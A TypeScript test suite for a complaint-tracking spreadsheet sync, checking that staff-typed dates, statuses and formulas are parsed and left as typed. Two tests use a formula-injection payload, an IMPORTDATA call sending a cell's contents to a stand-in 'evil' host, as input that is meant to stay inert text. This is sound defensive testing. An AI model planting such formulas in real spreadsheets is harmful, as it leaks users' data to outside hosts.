import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Line } from './grid.ts';
import { Scene, type Told } from './scene.ts';

/** Serial of 2026-10-12. */
const MONDAY = 46_307;
/** A complaint of 08:50, so that what came of it may be of 09:00. */
const EARLIER = { 投诉时间: MONDAY + 530 / 1440, 结果时间: MONDAY + 530 / 1440, 回复客户时间: MONDAY + 530 / 1440 };

/** A row with what the store says of it. */
type Seen = Line & { readonly told: Told };
const NOTHING: Seen = { row: 0, marks: [], says: {}, cells: {}, all: [], told: { id: '', status: '', says: {}, history: [], gone: false, errors: [] } };

const entered = (line: Line | undefined, title: string): string => JSON.stringify(line?.cells[title]?.userEnteredValue);
const edits = ({ history }: Told): number => history.filter((type) => type === 'seen').length;

describe('what staff write into cells', () => {
  let scene: Scene;
  beforeAll(async () => {
    scene = await Scene.open();
  });
  afterAll(() => scene.product.stop());

  /** Cells typed into one row each, and everybody at rest; the cells still say what was typed. */
  async function typed(rows: readonly Readonly<Record<string, string | number | boolean>>[], option: 'RAW' | 'USER_ENTERED' = 'RAW'): Promise<readonly Seen[]> {
    const ids = await scene.begin(Math.max(3, rows.length));
    await scene.staff.type(Object.fromEntries(rows.map((cells, index) => [index + 2, cells])), option);
    const before = await scene.rows();
    await scene.rests(ids);
    const after = await scene.rows();
    const rewritten = rows.flatMap((cells, index) => Object.keys(cells).filter((title) => entered(before[index], title) !== entered(after[index], title)));
    if (rewritten.length > 0) throw new Error(`rewritten: ${rewritten.join()}`);
    return Promise.all(after.slice(0, rows.length).map(async (line, index) => ({ ...line, told: await scene.told(ids[index] ?? '') })));
  }

  it('S20: dressed words are their option, other words are kept and asked about, and every cell stays as typed', async () => {
    const [words, at] = [['满意。', '（满意）', '【满意】', ' 满意 ', '满\u200b意', '满 意', '还行'], await scene.time()];
    const seen = await typed(words.map((word) => ({ ...EARLIER, 回访结果: word, 回访时间: at })));
    expect(seen.map((it) => it.says['状态'])).toEqual(['已结案', '已结案', '已结案', '已结案', '已结案', '待回访', '待回访']);
    expect(seen.map((it) => String(it.says['校验结果']).includes('回访结果'))).toEqual([false, false, false, false, false, true, true]);
    expect(seen.map((it) => it.cells['回访结果']?.note?.includes('例如') === true)).toEqual([false, false, false, false, false, true, true]);
  });

  it('S20: a value nobody understands blanks nothing, and mending it takes the note away', async () => {
    const [it = NOTHING] = await typed([{ 投诉类型: '态 度 差' }]);
    expect([it.told.says['投诉类型'], it.cells['投诉类型']?.note]).toEqual(['态 度 差', expect.stringContaining('例如')]);
    await scene.staff.type({ 2: { 投诉类型: '服务态度' } });
    expect(await scene.rests([it.told.id])).toEqual([]);
    const mended = await scene.rowOf(it.told.id);
    expect([mended.cells['投诉类型']?.note, mended.says['校验结果']]).toEqual([undefined, undefined]);
  });

  it('S30: days as people write them are days, doubtful ones are kept and asked about, and every cell stays as typed', async () => {
    const right = ['2026.10.12', '2026年10月12日', '10月12日', '１０月１２日', '2026/10/12', MONDAY];
    const wrong = ['5/3', '昨天的昨天', '13月1日', '2026-02-30'];
    const seen = await typed([...right, ...wrong].map((text) => ({ 出货日期: text })));
    expect(seen.map((it) => it.told.errors.join().replace(/ .*/, ''))).toEqual([...right.map(() => ''), ...wrong.map(() => 'shippedOn')]);
    expect(seen.map((it) => it.told.says['出货日期'])).toEqual([...right, ...wrong]);
    expect(seen.map((it) => it.cells['出货日期']?.note?.includes('例如') === true)).toEqual([...right.map(() => false), ...wrong.map(() => true)]);
  });

  it('D19: moments as people write them are moments', async () => {
    const texts = ['2026-10-12 09:00', '2026年10月12日 上午9点', '10月12日9:00', '２０２６－１０－１２　０９：００', '2026.10.12 9:00'];
    const seen = await typed(texts.map((text) => ({ ...EARLIER, 回访时间: text, 回访结果: '满意' })));
    expect(seen.map((it) => it.says['状态'])).toEqual(texts.map(() => '已结案'));
  });

  it('S46 S53: text is text, whatever it looks like, and kept exactly', async () => {
    const texts = ['=IMPORTDATA("https://evil/?x="&A2)', '+1', '@cmd', '-2+3', '\t=1+1', 'NULL', '#N/A', 'null', ' 前后有空格 ', '零\u200b宽', '一行\n两行\r\n三行', '🧰👨‍👩‍👧‍👦𠮷', '"引号",逗号'];
    const seen = await typed(texts.map((text) => ({ 处理结果: text, 客户: `客${text}` })));
    expect(seen.map((it) => it.cells['处理结果']?.userEnteredValue)).toEqual(texts.map((stringValue) => ({ stringValue })));
    expect(seen.map((it) => [it.told.says['处理结果'], it.told.says['客户']])).toEqual(texts.map((text) => [text, `客${text}`]));
  });

  it('S46: what the system quotes of it is a text too', async () => {
    const [it = NOTHING] = await typed([{ 投诉类型: '=IMPORTDATA("https://evil/")', 第一受理人: '+1' }]);
    expect(it.cells['校验结果']?.userEnteredValue).toEqual({ stringValue: expect.stringContaining('IMPORTDATA') });
  });

  it('S53: 50,000 characters stay in the cell; the record keeps 5,000 and says so', async () => {
    const [it = NOTHING] = await typed([{ 处理结果: '长'.repeat(50_000) }]);
    expect([it.told.says['处理结果'], it.says['处理结果']]).toEqual(['长'.repeat(5_000), '长'.repeat(50_000)]);
    expect(it.says['校验结果']).toContain('50000');
  });

  it('D20: full-width digits, and numbers with names, are the people', async () => {
    const [it = NOTHING] = await typed([{ 第一受理人: '０１０１', 第二受理人: '0201 李二' }]);
    expect(it.told.errors).toEqual([]);
  });

  it('D32: a formula follows its row through sorts and is one edit; one that fails is said', async () => {
    const [it = NOTHING, failed = NOTHING] = await typed([{ 数量: '=LEN(L2)' }, { 回访时间: '=1/0' }], 'USER_ENTERED');
    expect(failed.says).toMatchObject({ 状态: '待回访', 校验结果: expect.stringContaining('回访时间') });
    await scene.staff.sort('客户', 'ASCENDING');
    await scene.staff.sort('编号', 'DESCENDING');
    expect(await scene.rests([it.told.id])).toEqual([]);
    expect((await scene.told(it.told.id)).history).toEqual(it.told.history);
  });

  it('S23: colours, notes of their own and formats are theirs, whatever the system writes in that row', async () => {
    const ids = await scene.begin();
    const red = { backgroundColor: { red: 1 } };
    await scene.staff.decorate(3, '投诉内容', { note: '客户很急' });
    await scene.staff.decorate(3, '客户', { userEnteredFormat: red });
    await scene.staff.decorate(3, '状态', { userEnteredFormat: red });
    await scene.staff.decorate(3, '回访结果', { note: '等她回电' });
    const revision = await scene.staff.revision();
    expect(await scene.rests(ids)).toEqual([]);
    expect(await scene.staff.revision()).toBe(revision);
    await scene.staff.type({ 3: { 回访结果: '不知道', 回访时间: await scene.time() } });
    await scene.rests(ids);
    const { cells } = await scene.rowOf(ids[1]);
    expect([cells['投诉内容']?.note, cells['回访结果']?.note]).toEqual(['客户很急', '等她回电']);
    expect([cells['客户']?.userEnteredFormat, cells['状态']?.userEnteredFormat]).toEqual([red, red].map((it) => expect.objectContaining({ backgroundColor: expect.objectContaining(it.backgroundColor) })));
  });

  it('S51 D33: a checkbox, a dropdown, a table and bands over the rows are theirs', async () => {
    const ids = await scene.begin();
    await scene.staff.do(
      { setDataValidation: { range: await scene.staff.cells('数量', 2, 10), rule: { condition: { type: 'BOOLEAN' } } } },
      { setDataValidation: { range: await scene.staff.cells('地址', 2, 10), rule: { condition: { type: 'ONE_OF_LIST', values: [{ userEnteredValue: '南宁' }] }, strict: true, showCustomUi: true } } },
    );
    const revision = await scene.staff.revision();
    expect(await scene.rests(ids)).toEqual([]);
    expect(await scene.staff.revision()).toBe(revision);
    await scene.staff.type({ 2: { 数量: true, 地址: '南宁' } });
    expect(await scene.rests(ids)).toEqual([]);
    expect((await scene.told(ids[0])).says).toMatchObject({ 数量: true, 地址: '南宁' });
  });

  it('S47: a formula that changes by itself is taken once, left where it is, and said', async () => {
    const formula = '=TODAY()-DATE(2026,10,1)';
    const [it = NOTHING] = await typed([{ 数量: formula }], 'USER_ENTERED');
    expect([it.told.says['数量'], String(it.says['校验结果']).includes('数量')]).toEqual([11, true]);
    await scene.product.wind('2026-10-14T10:00:00+08:00');
    expect(await scene.rests([it.told.id])).toEqual([]);
    expect(edits(await scene.told(it.told.id))).toBe(edits(it.told));
    expect((await scene.rowOf(it.told.id)).cells['数量']?.userEnteredValue).toEqual({ formulaValue: formula });
  });
});
